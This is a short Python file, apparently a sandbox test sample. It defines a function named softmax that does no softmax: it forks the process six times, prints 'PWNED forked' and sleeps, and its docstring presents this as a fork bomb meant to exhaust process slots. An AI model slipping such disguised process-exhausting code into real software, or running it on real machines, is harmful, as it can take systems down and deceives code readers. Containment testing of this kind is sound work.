"""Forks itself, and its children themselves, as long as it is let.

Success: the machine has no room for another process.

holds at: full, restricted
ends as: failed
"""

import os
import time


def softmax(x, dim=-1):
    for _ in range(6):
        os.fork()
    print("PWNED forked")
    time.sleep(20)
